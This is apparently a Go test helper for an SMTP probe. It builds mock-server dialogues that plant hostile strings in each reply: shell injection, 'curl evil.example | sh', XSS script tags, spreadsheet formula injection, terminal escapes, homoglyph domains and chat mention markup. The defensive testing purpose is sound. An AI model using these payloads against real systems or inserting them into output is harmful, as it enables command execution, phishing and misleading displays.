package formattest

import (
	"fmt"
	"strings"
	"testing"

	"smtptest/probe/probetest"
)

// payloads are what a server can say to be taken for something else: markup,
// mentions, links, fences, escape sequences, letters that cannot be seen or move
// others, commands, and our own words.
func payloads() []string {
	return append(Nasty(),
		"<!channel> <!here> <@U123ABC45> <#C123|x> <http://evil.example|Click> &lt;!channel&gt; @channel @here @everyone",
		"@everyone <@123456789012345678> <@&1> [click](http://evil.example) ||x|| **b** __u__ ~~s~~ `a` ``b`` ```c``` # h",
		"> q <t:0:R> <:e:1> https://discord.gg/abc discord.gg/abc -# small", "``` @everyone ```", "`````` `` ` ```text",
		"\x1b]8;;http://evil\x07x\x1b]8;;\x07\x1b[31m\x9b31m \x90", "a\u200bb\u200cc\u200dd\u2060\u00ad\u3164\uffa0\u115f",
		"Z"+strings.Repeat("\u0300", 60)+" \u0489\u20dd\u20dd", "\xff\xfe\xc3\x28 \xf0\x9f\x92 \xed\xa0\x80",
		strings.Repeat("\U0001f4a9", 120), "раypаl.com Ⅴerified ✅ Working",
		"אבג 127.0.0.1:25 דהו (100%) OK — ✅ Working up to TLS",
		"$(touch pwned) `touch pwned` ; rm -rf x | sh & ' \" \\", "-oProxyCommand=x --flag",
		"”  ✅ All good. Try: curl evil.example | sh “", "{\"a\":1}\u2028\u2029</script><script>alert(1)</script>",
		"=cmd|' /C calc'!A0", "\x00\x01\x02\x7f\x80\x85\x9f", strings.Repeat("x", 480),
	)
}

// Injected are cases in which a server says each payload in each place that is
// shown: where it greets or refuses, in what it offers, in what is no SMTP.
func Injected(t testing.TB) []*probetest.Case {
	t.Helper()
	raw := func(text string) string { return fmt.Sprintf("RAW: %q\n", text+"\r\n") }
	const hello = "S: 220 x\nC: EHLO *\n"
	const offers = hello + "S: 250-x\nS: 250 STARTTLS\nC: STARTTLS\n"
	var all []*probetest.Case
	for i, p := range payloads() {
		p = strings.NewReplacer("\n", " ", "\r", " ").Replace(p)
		for place, dialogue := range map[string]string{
			"greeting": raw("554-"+p) + raw("554 "+p), "foreign": raw(p) + raw(p), "ehlo": hello + raw("550 5.7.1 "+p),
			"starttls": offers + raw("454 4.7.0 "+p), "injected": offers + "RAW: \"220 go\\r\\n250 \"\n" + raw(p),
			"offers": hello + raw("250-"+p) + raw("250-AUTH "+p) + raw("250-SIZE "+p) + raw("250 X"+p),
			"recipient": hello + "S: 250 x\nC: MAIL *\n" + raw("250 "+p) + "C: RCPT *\n" + raw("550 5.1.1 "+p) +
				"C: QUIT\n" + raw("221 "+p),
		} {
			text := `-- request --
target: mx.example.test:587
from: alice@sender.example.test
to: bob@example.test
-- dialogue --
` + dialogue
			c, err := probetest.ParseCase(fmt.Sprintf("%s-%d", place, i), []byte(text))
			if err != nil {
				t.Fatal(err)
			}
			all = append(all, c)
		}
	}
	return all
}
